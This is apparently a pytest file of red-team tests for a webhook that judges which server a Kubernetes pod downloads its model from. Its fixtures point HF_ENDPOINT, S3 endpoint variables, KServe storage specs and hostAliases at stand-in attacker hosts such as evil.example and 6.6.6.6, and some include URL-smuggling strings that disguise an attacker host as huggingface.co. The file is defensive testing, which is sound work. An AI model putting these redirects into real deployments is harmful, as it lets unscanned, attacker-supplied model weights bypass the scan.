"""Red-team bypass: the environment sends a serving program's download to another server.

``HF_ENDPOINT=https://evil.example`` beside ``vllm serve meta-llama/x`` downloads the model
from a server the workload chose while the webhook judged the Hub's scan of that id; the
same with ``AWS_ENDPOINT_URL`` and ``s3://bucket/key``. Each test failed before the fix
(the references came out with no endpoint, so the Hub's or the bucket's source judged them).
"""

from __future__ import annotations

from typing import Any

import pytest
from reference_helpers import extraction, pod

from modelsec.references import Extraction

LLAMA_IMAGE = "ghcr.io/ggml-org/llama.cpp:server"


def container(command: list[str], env: dict[str, str] | None = None, **more: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"name": "c", "image": more.pop("image", "python"), "command": command, **more}
    if env:
        out["env"] = [{"name": k, "value": v} for k, v in env.items()]
    return out


def found(command: list[str], env: dict[str, str] | None = None, **more: Any) -> Extraction:
    return extraction("Pod", pod(container(command, env, **more)))


def endpoints(result: Extraction) -> list[tuple[str, str | None, str | None]]:
    return [(str(r.ref), r.endpoint, r.redirected_by) for r in result.references]


@pytest.mark.parametrize(
    "command, variable",
    [
        (["vllm", "serve", "meta-llama/x"], "HF_ENDPOINT"),
        (["text-generation-launcher", "--model-id", "meta-llama/x"], "HF_ENDPOINT"),
        (["llama-server", "-hf", "meta-llama/x"], "HF_ENDPOINT"),
        (["llama-server", "-hf", "meta-llama/x"], "MODEL_ENDPOINT"),
    ],
)
def test_hub_endpoint_variable_redirects_the_hub_download(command: list[str], variable: str) -> None:
    result = found(command, {variable: "https://evil.example"})
    assert endpoints(result) == [("hf://meta-llama/x", "https://evil.example", variable)]


@pytest.mark.parametrize("value", ["https://huggingface.co", "https://huggingface.co/", "HTTPS://HF.CO", ""])
def test_the_hub_itself_is_no_redirect(value: str) -> None:
    result = found(["vllm", "serve", "meta-llama/x"], {"HF_ENDPOINT": value})
    assert endpoints(result) == [("hf://meta-llama/x", None, None)]


def test_a_redirect_set_in_the_shell_script_counts() -> None:
    script = "export HF_ENDPOINT=https://evil.example; exec vllm serve meta-llama/x"
    assert endpoints(found(["sh", "-c", script])) == [
        ("hf://meta-llama/x", "https://evil.example", "HF_ENDPOINT")
    ]


def test_a_redirect_from_a_secret_is_unresolved() -> None:
    env = [{"name": "HF_ENDPOINT", "valueFrom": {"secretKeyRef": {"name": "mirror", "key": "url"}}}]
    result = extraction(
        "Pod", pod({"name": "c", "image": "python", "command": ["vllm", "serve", "org/m"], "env": env})
    )
    assert result.references == ()
    (unresolved,) = result.unresolved
    assert "HF_ENDPOINT decides which server" in unresolved.why and "Secret mirror" in unresolved.why


def test_a_redirect_from_an_unread_configmap_names_the_configmap() -> None:
    env_from = [{"configMapRef": {"name": "settings"}}]
    result = extraction(
        "Pod",
        pod({"name": "c", "image": "python", "command": ["vllm", "serve", "org/m"], "envFrom": env_from}),
    )
    assert result.references == ()
    assert result.configmaps == {"settings"}


@pytest.mark.parametrize("value", ["true", "True", "TRUE"])
def test_vllm_modelscope_switch_is_unresolved(value: str) -> None:
    result = found(["vllm", "serve", "Qwen/Qwen3-8B"], {"VLLM_USE_MODELSCOPE": value})
    assert result.references == ()
    assert "ModelScope" in result.unresolved[0].why


@pytest.mark.parametrize("value", ["false", "0", "1", ""])
def test_vllm_modelscope_switch_off(value: str) -> None:
    # vLLM reads the switch as `.lower() == "true"`: "1" leaves the Hub in place
    assert endpoints(found(["vllm", "serve", "Qwen/Qwen3-8B"], {"VLLM_USE_MODELSCOPE": value})) == [
        ("hf://Qwen/Qwen3-8B", None, None)
    ]


@pytest.mark.parametrize(
    "variable", ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "RUNAI_STREAMER_S3_ENDPOINT"]
)
def test_s3_endpoint_variables_redirect_vllm(variable: str) -> None:
    result = found(["vllm", "serve", "s3://models/llama"], {variable: "http://evil:9000"})
    assert endpoints(result) == [("s3://models/llama", "http://evil:9000", variable)]


def test_triton_repository_without_an_endpoint_reads_the_sdk_variables() -> None:
    result = found(
        ["tritonserver", "--model-repository=s3://models/repo"], {"AWS_ENDPOINT_URL": "http://evil:9000"}
    )
    assert endpoints(result) == [("s3://models/repo", "http://evil:9000", "AWS_ENDPOINT_URL")]


def test_triton_repository_naming_its_endpoint_is_not_redirected() -> None:
    result = found(
        ["tritonserver", "--model-repository=s3://http://minio:9000/models/repo"],
        {"AWS_ENDPOINT_URL": "http://evil:9000"},
    )
    assert endpoints(result) == [("s3://models/repo", "http://minio:9000", None)]


def test_variables_that_disagree_are_unresolved() -> None:
    env = {"AWS_ENDPOINT_URL": "http://minio:9000", "RUNAI_STREAMER_S3_ENDPOINT": "http://evil:9000"}
    result = found(["vllm", "serve", "s3://models/llama"], env)
    assert result.references == ()
    assert "name different servers" in result.unresolved[0].why


def test_variables_that_agree_are_one_endpoint() -> None:
    env = {"AWS_ENDPOINT_URL": "http://minio:9000", "RUNAI_STREAMER_S3_ENDPOINT": "http://MINIO:9000/"}
    assert endpoints(found(["vllm", "serve", "s3://models/llama"], env)) == [
        ("s3://models/llama", "http://minio:9000", "AWS_ENDPOINT_URL")
    ]


def test_local_paths_and_hub_urls_are_not_redirected() -> None:
    # A path is read from disk; a --model-url names its server itself.
    env = {"HF_ENDPOINT": "https://evil.example", "MODEL_ENDPOINT": "https://evil.example"}
    url = f"https://huggingface.co/org/m/resolve/{'0' * 40}/m.gguf"
    result = extraction(
        "Pod",
        pod(
            container(["vllm", "serve", "/models/m"], env),
            container(["llama-server", "--model-url", url], env, name="l"),
        ),
    )
    assert [(str(r.ref.scheme), r.endpoint) for r in result.references] == [("file", None), ("hf", None)]


def test_a_variable_of_another_container_does_not_apply() -> None:
    result = extraction(
        "Pod",
        pod(
            container(["vllm", "serve", "org/m"]),
            container(["sleep", "1"], {"HF_ENDPOINT": "https://evil.example"}, name="side"),
        ),
    )
    assert endpoints(result) == [("hf://org/m", None, None)]


def test_the_image_entrypoint_reads_the_container_environment() -> None:
    obj = pod(
        {
            "name": "c",
            "image": "vllm/vllm-openai:v0.9.2",
            "args": ["org/m"],
            "env": [{"name": "HF_ENDPOINT", "value": "https://evil.example"}],
        }
    )
    assert endpoints(extraction("Pod", obj)) == [("hf://org/m", "https://evil.example", "HF_ENDPOINT")]


def test_llama_cpp_image_entrypoint_reads_model_endpoint() -> None:
    obj = pod(
        {
            "name": "c",
            "image": LLAMA_IMAGE,
            "args": ["-hf", "org/m"],
            "env": [{"name": "MODEL_ENDPOINT", "value": "https://evil.example"}],
        }
    )
    assert endpoints(extraction("Pod", obj)) == [("hf://org/m", "https://evil.example", "MODEL_ENDPOINT")]


@pytest.mark.parametrize("model", ["meta-llama/x", "s3://models/llama", "/models/x"])
def test_vllm_model_redirect_table_is_unresolved(model: str) -> None:
    # vLLM maps model names to other paths through this file before downloading anything
    result = found(["vllm", "serve", model], {"VLLM_MODEL_REDIRECT_PATH": "/etc/redirects.json"})
    assert result.references == ()
    assert "VLLM_MODEL_REDIRECT_PATH" in result.unresolved[0].why


def test_tgi_weights_cache_override_is_unresolved() -> None:
    # TGI hands its shards that directory instead of the model it names
    launcher = ["text-generation-launcher", "--model-id", "meta-llama/x"]
    by_env = found(launcher, {"WEIGHTS_CACHE_OVERRIDE": "/data/weights"})
    by_option = found([*launcher, "--weights-cache-override", "/data/weights"])
    for result in (by_env, by_option):
        assert result.references == ()
        assert "TGI load" in result.unresolved[0].why


@pytest.mark.parametrize(
    "value",
    [
        "https://evil.example\\@huggingface.co",  # urlsplit: the Hub; requests: evil.example
        "https://evil.example@huggingface.co",
        "http://huggingface.co",
        "https://huggingface.co:8080",
        "https://huggingface.co/mirror",
        "https://huggingface.co?x=1",
        "https://huggingface.co%2Eevil.example",
    ],
)
def test_only_a_plain_hub_url_is_the_hub(value: str) -> None:
    result = found(["vllm", "serve", "meta-llama/x"], {"HF_ENDPOINT": value})
    assert [r.redirected_by for r in result.references] == ["HF_ENDPOINT"] or result.unresolved


# --- references no known program reads: the annotation, KServe (review of session 21) ---
# Before these, an annotated hf:// model or a KServe download was judged by the Hub's (or
# the bucket's) scan whatever HF_ENDPOINT or AWS_ENDPOINT_URL the containers set.


def annotated(*containers: dict[str, Any], models: str = "hf://meta-llama/x") -> Extraction:
    return extraction("Pod", pod(*containers, annotations={"modelsec.io/models": models}))


def test_an_annotated_model_follows_a_container_endpoint() -> None:
    result = annotated(container(["python", "serve.py"], {"HF_ENDPOINT": "https://evil.example"}))
    assert endpoints(result) == [("hf://meta-llama/x", "https://evil.example", "HF_ENDPOINT")]


def test_an_annotated_bucket_follows_the_sdk_endpoint() -> None:
    result = annotated(
        container(["python", "serve.py"], {"AWS_ENDPOINT_URL_S3": "http://evil:9000"}), models="s3://b/m"
    )
    assert endpoints(result) == [("s3://b/m", "http://evil:9000", "AWS_ENDPOINT_URL_S3")]


def test_an_annotated_model_follows_an_endpoint_a_script_exports() -> None:
    script = "export HF_ENDPOINT=https://evil.example; exec python serve.py"
    result = annotated(container(["sh", "-c", script]))
    assert endpoints(result) == [("hf://meta-llama/x", "https://evil.example", "HF_ENDPOINT")]


def test_containers_sending_an_annotated_model_to_different_servers_are_unresolved() -> None:
    result = annotated(
        container(["python", "a.py"], {"HF_ENDPOINT": "https://mirror.example"}),
        {**container(["python", "b.py"], {"HF_ENDPOINT": "https://evil.example"}), "name": "b"},
    )
    assert result.references == ()
    assert "name different servers" in result.unresolved[0].why


def test_a_sidecar_without_an_endpoint_leaves_the_mirror_in_place() -> None:
    result = annotated(
        container(["python", "serve.py"], {"HF_ENDPOINT": "https://mirror.example"}),
        {"name": "proxy", "image": "envoyproxy/envoy"},
    )
    assert endpoints(result) == [("hf://meta-llama/x", "https://mirror.example", "HF_ENDPOINT")]


def test_an_annotated_model_with_the_endpoint_in_a_secret_is_unresolved() -> None:
    env = [{"name": "HF_ENDPOINT", "valueFrom": {"secretKeyRef": {"name": "mirror", "key": "url"}}}]
    result = annotated({"name": "c", "image": "python", "command": ["python", "serve.py"], "env": env})
    assert result.references == ()
    assert "Secret mirror" in result.unresolved[0].why


def test_an_annotated_model_without_endpoints_is_judged_as_named() -> None:
    result = annotated(container(["python", "serve.py"], {"HF_ENDPOINT": "https://huggingface.co"}))
    assert endpoints(result) == [("hf://meta-llama/x", None, None)]


def initializer(
    uris: list[str], env: dict[str, str] | None = None, env_items: list[Any] | None = None
) -> Extraction:
    init: dict[str, Any] = {
        "name": "storage-initializer",
        "image": "kserve/storage-initializer:v0.15.0",
        "args": [word for uri in uris for word in (uri, "/mnt/models")],
    }
    if env or env_items:
        init["env"] = [{"name": k, "value": v} for k, v in (env or {}).items()] + (env_items or [])
    return extraction("Pod", pod({"name": "kserve-container", "image": "kserve/sklearnserver"}, init=[init]))


@pytest.mark.parametrize(
    "uri, variable, value",
    [
        ("hf://org/m", "HF_ENDPOINT", "https://evil.example"),
        ("s3://b/m", "AWS_ENDPOINT_URL", "http://evil:9000"),
        ("s3://b/m", "AWS_ENDPOINT_URL_S3", "http://evil:9000"),
    ],
)
def test_the_storage_initializer_environment_redirects_its_download(
    uri: str, variable: str, value: str
) -> None:
    assert endpoints(initializer([uri], {variable: value})) == [(uri, value, variable)]


@pytest.mark.parametrize("variable", ["STORAGE_CONFIG", "STORAGE_OVERRIDE_CONFIG"])
def test_a_kserve_storage_spec_endpoint_redirects_s3(variable: str) -> None:
    spec = '{"type": "s3", "endpoint_url": "http://evil:9000", "bucket": "b"}'
    assert endpoints(initializer(["s3://b/m"], {variable: spec})) == [
        ("s3://b/m", "http://evil:9000", variable)
    ]


def test_the_override_spec_wins_over_the_storage_spec() -> None:
    env = {
        "STORAGE_CONFIG": '{"type": "s3", "endpoint_url": "http://minio:9000"}',
        "STORAGE_OVERRIDE_CONFIG": '{"endpoint_url": "http://evil:9000"}',
    }
    assert endpoints(initializer(["s3://b/m"], env)) == [
        ("s3://b/m", "http://evil:9000", "STORAGE_OVERRIDE_CONFIG")
    ]


def test_a_storage_spec_of_another_type_names_no_s3_endpoint() -> None:
    spec = '{"type": "gs", "endpoint_url": "http://evil:9000"}'
    assert endpoints(initializer(["s3://b/m"], {"STORAGE_CONFIG": spec})) == [("s3://b/m", None, None)]


@pytest.mark.parametrize("spec", ["not json", "[1]", '{"type": "s3", "endpoint_url": 7}'])
def test_a_storage_spec_modelsec_cannot_read_is_unresolved(spec: str) -> None:
    result = initializer(["s3://b/m"], {"STORAGE_CONFIG": spec})
    assert result.references == ()
    assert "STORAGE_CONFIG" in result.unresolved[0].why


def test_a_storage_spec_from_a_secret_is_unresolved() -> None:
    spec = {"name": "STORAGE_CONFIG", "valueFrom": {"secretKeyRef": {"name": "storage-config", "key": "s3"}}}
    result = initializer(["s3://b/m"], env_items=[spec])
    assert result.references == ()
    assert "Secret storage-config" in result.unresolved[0].why


def test_the_hugging_face_runtime_environment_redirects_model_id() -> None:
    result = extraction(
        "Pod",
        pod(
            container(
                ["python", "-m", "huggingfaceserver", "--model_id", "org/m"],
                {"HF_ENDPOINT": "https://evil.example"},
                image="kserve/huggingfaceserver:v0.15.0",
            )
        ),
    )
    assert endpoints(result) == [("hf://org/m", "https://evil.example", "HF_ENDPOINT")]


# --- hostAliases: /etc/hosts lines of the pod's choosing (review of session 21, "through the
# network"); with a CA bundle of its choosing the aliased address serves any file ---


def aliased_pod(
    command: list[str], aliases: list[dict[str, Any]], env: dict[str, str] | None = None
) -> Extraction:
    spec = pod(container(command, env))
    spec["spec"]["hostAliases"] = aliases
    return extraction("Pod", spec)


@pytest.mark.parametrize("host", ["huggingface.co", "cdn-lfs.hf.co", "CAS-BRIDGE.xethub.hf.co."])
def test_a_hub_host_aliased_is_unresolved(host: str) -> None:
    result = aliased_pod(
        ["vllm", "serve", "meta-llama/x"], [{"ip": "6.6.6.6", "hostnames": ["x.example", host]}]
    )
    assert result.references == ()
    assert "hostAliases maps" in result.unresolved[0].why and "6.6.6.6" in result.unresolved[0].why


def test_an_s3_host_aliased_is_unresolved() -> None:
    aliases = [{"ip": "6.6.6.6", "hostnames": ["models.s3.us-east-1.amazonaws.com"]}]
    assert aliased_pod(["vllm", "serve", "s3://models/llama"], aliases).references == ()


def test_an_aliased_mirror_endpoint_is_unresolved() -> None:
    aliases = [{"ip": "6.6.6.6", "hostnames": ["mirror.internal"]}]
    result = aliased_pod(
        ["vllm", "serve", "meta-llama/x"], aliases, {"HF_ENDPOINT": "https://mirror.internal"}
    )
    assert result.references == () and "mirror.internal" in result.unresolved[0].why


def test_aliases_of_other_hosts_leave_the_reference() -> None:
    aliases = [{"ip": "10.0.0.1", "hostnames": ["db.internal", "notthehf.co.example"]}]
    assert endpoints(aliased_pod(["vllm", "serve", "meta-llama/x"], aliases)) == [
        ("hf://meta-llama/x", None, None)
    ]
